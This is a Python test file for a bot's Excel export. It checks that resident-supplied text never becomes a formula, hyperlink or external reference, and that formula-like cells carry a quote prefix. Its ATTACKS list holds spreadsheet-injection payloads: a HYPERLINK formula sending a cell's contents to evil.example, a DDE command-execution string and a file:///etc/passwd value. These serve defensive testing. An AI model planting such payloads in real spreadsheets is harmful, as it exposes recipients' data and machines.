"""Excel files: what is in their XML, for that is what a spreadsheet program reads."""

import io
import re
import zipfile
from datetime import UTC, datetime

import pytest

from bot.documents.sheets import Share, Sheet, as_excel

NOW = datetime(2026, 3, 10, tzinfo=UTC)
#: What a resident could write to have somebody else's spreadsheet do something.
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(A1)",
    "{=1+1}",
    "http://evil.example/",
    "file:///etc/passwd",
    "\t=1+1",
    "＝1+1",
    "12345678901234567890",
    "<f>1+1</f>",
)


def parts(data: bytes) -> dict[str, str]:
    """The files in an .xlsx."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def page(*cells: object) -> dict[str, str]:
    """The files of a sheet with one row of *cells*."""
    columns = tuple(f"列{n}" for n, _ in enumerate(cells))
    return parts(as_excel([Sheet(name="表", columns=columns, rows=(cells,))], NOW))


@pytest.mark.parametrize("words", ATTACKS)
def test_words_never_become_a_formula_or_a_link(words: str) -> None:
    """In the cell, in a heading and in a fact: shared strings only; no formula, no link, no external part."""
    sheet = Sheet(name="表", columns=(words,), rows=((words,),), facts=((words, words),))
    files = parts(as_excel([sheet], NOW))
    xml = files["xl/worksheets/sheet1.xml"]
    assert "<f" not in re.sub(r"<(formula|format)\w*", "", xml)
    assert "hyperlink" not in xml
    assert not [name for name in files if "external" in name or "sheet1.xml.rels" in name]
    assert len(re.findall(r't="s"', xml)) == 4


@pytest.mark.parametrize(("words", "quoted"), [("=1+1", 1), ("+1", 1), ("-1", 1), ("@A1", 1), ("漏水", 0), ("#1", 0)])
def test_what_looks_like_a_formula_stays_words_when_it_is_edited(words: str, quoted: int) -> None:
    """The cell carries the mark that an apostrophe before it would give."""
    files = page(words)
    style = int(re.findall(r'<c r="A2" s="(\d+)"', files["xl/worksheets/sheet1.xml"])[0])
    formats = re.findall(r"<xf [^>]*>", files["xl/styles.xml"].split("<cellXfs")[1])
    assert ('quotePrefix="1"' in formats[style]) == bool(quoted)


def test_numbers_are_numbers_and_shares_are_percent() -> None:
    """So that people can go on counting; an empty cell is empty, not zero."""
    files = page(3, Share(0.8), None, 1.5)
    xml = files["xl/worksheets/sheet1.xml"]
    assert re.findall(r'<c r="(\w)2"[^>]*><v>([\d.]+)</v>', xml) == [("A", "3"), ("B", "0.8"), ("D", "1.5")]
    assert "0.0%" in files["xl/styles.xml"]


def test_the_author_is_the_program() -> None:
    """The file says nothing of whose machine wrote it."""
    assert "<dc:creator>楼事通</dc:creator>" in page("漏水")["docProps/core.xml"]
